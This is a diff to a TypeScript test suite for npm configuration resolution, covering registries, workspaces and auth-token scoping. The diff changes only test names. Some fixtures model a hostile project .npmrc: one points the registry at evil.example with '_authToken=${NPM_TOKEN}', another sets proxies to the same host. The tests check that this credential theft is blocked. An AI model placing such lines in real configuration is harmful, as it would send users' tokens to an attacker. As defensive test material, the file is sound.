@@ -35,7 +35,7 @@ const registryOf = (name: string) => (config: NpmConfig) => {
 };
 const authorizationFor = (url: string) => (config: NpmConfig) => config.authorizationFor(new URL(url));
 
-describe("the registry of a package, just as the real npm says", () => {
+describe("the registry of a package, as in the real npm", () => {
   test.each<[string, Setup, string]>([
     ["npm's own, where nothing is configured", {}, "pkg"],
     ["the user's", { files: "//- home/.npmrc\nregistry=https://user.example/\n" }, "pkg"],
@@ -118,14 +118,14 @@ describe("the registry of a package, just as the real npm says", () => {
 });
 
 // "npm warn config ignoring workspace config", and then it does not tell: ENOWORKSPACES.
-test("in a workspace the root's file counts", async () => {
+test("in a workspace, the root's file applies", async () => {
   const files =
     '//- project/package.json\n{"workspaces":{"packages":["./packages/*"]}}\n//- project/packages/a/package.json\n{}\n' +
     "//- project/.npmrc\nregistry=https://root.example/\n//- project/packages/a/.npmrc\nregistry=https://a.example/\n";
   expect(await configured({ files, cwd: "project/packages/a" }, registryOf("pkg"))).toBe("https://root.example/");
 });
 
-describe("a registry that is not asked", () => {
+describe("a registry that is not contacted", () => {
   test.each<[string, string, string]>([
     ["no URL", "home/.npmrc", "registry=nonsense"],
     ["a variable that is not set", "home/.npmrc", "registry=https://${UNSET}.example/"],
@@ -139,7 +139,7 @@ describe("a registry that is not asked", () => {
     expect(message).not.toMatch(/s3cret|hidden/);
   });
 
-  test("plain HTTP is, on loopback or where the user's own file says so", async () => {
+  test("plain HTTP is allowed on loopback and if the user's own file has it", async () => {
     const project = "//- project/.npmrc\nregistry=http://127.0.0.1:4873/\n@corp:registry=http://plain.example/\n";
     const user = "//- home/.npmrc\n@any:registry=http://plain.example/npm/\n";
     expect(await configured({ files: project }, registryOf("pkg"))).toBe("http://127.0.0.1:4873/");
@@ -147,7 +147,7 @@ describe("a registry that is not asked", () => {
   });
 });
 
-describe("who gets a token", () => {
+describe("tokens", () => {
   const user = `//- home/.npmrc
 //host.example/:_authToken=root
 //host.example/team/:_authToken=team
@@ -178,21 +178,21 @@ _authToken=nobody's
     expect(await configured({ files: user, env: { TOKEN: "t0ken" } }, authorizationFor(url))).toBe(expected);
   });
 
-  test("the environment's keys keep their case", async () => {
+  test("keys from the environment keep their case", async () => {
     const env = { "npm_config_//host.example/:_authToken": "fromEnv" };
     expect(await configured({ env }, authorizationFor("https://host.example/pkg"))).toBe("Bearer fromEnv");
   });
 });
 
-describe("a project's file, which may be a stranger's", () => {
+describe("an untrusted project's file", () => {
   const env = { NPM_TOKEN: "s3cret", KEY: "//evil.example/" };
 
-  test("does not get a variable sent to a host of its own choice", async () => {
+  test("cannot send a variable to a host of its choice", async () => {
     const files = "//- project/.npmrc\nregistry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n";
     expect(await configured({ files, env }, authorizationFor("https://evil.example/pkg"))).toBeUndefined();
   });
 
-  test("does get it sent to the user's own registry, as continuous integration does", async () => {
+  test("can send a variable to the user's own registry, as in continuous integration", async () => {
     const corp = "//- project/.npmrc\n//corp.example/npm/:_authToken=${NPM_TOKEN}\n";
     const user = "//- home/.npmrc\n@corp:registry=https://corp.example/npm/\n";
     const files = corp + user;
@@ -201,7 +201,7 @@ describe("a project's file, which may be a stranger's", () => {
     expect(await configured({ files: npm, env }, authorizationFor(`${defaultRegistry}x`))).toBe("Bearer s3cret");
   });
 
-  test("brings tokens of its own, and an unfilled one does not hide the user's", async () => {
+  test("can have tokens, and an unset one does not hide the user's", async () => {
     const user = "//- home/.npmrc\n//own.example/:_authToken=user\n";
     const url = "https://own.example/pkg";
     expect(
@@ -214,7 +214,7 @@ describe("a project's file, which may be a stranger's", () => {
     expect(await configured({ files: unfilled, env }, authorizationFor(url))).toBe("Bearer user");
   });
 
-  test("has no say in proxies, certificates, their checks, and where the other files are", async () => {
+  test("cannot set proxies, certificates, their checks, or the other files", async () => {
     const files = `//- project/.npmrc
 proxy=http://evil.example/
 https-proxy=http://evil.example/
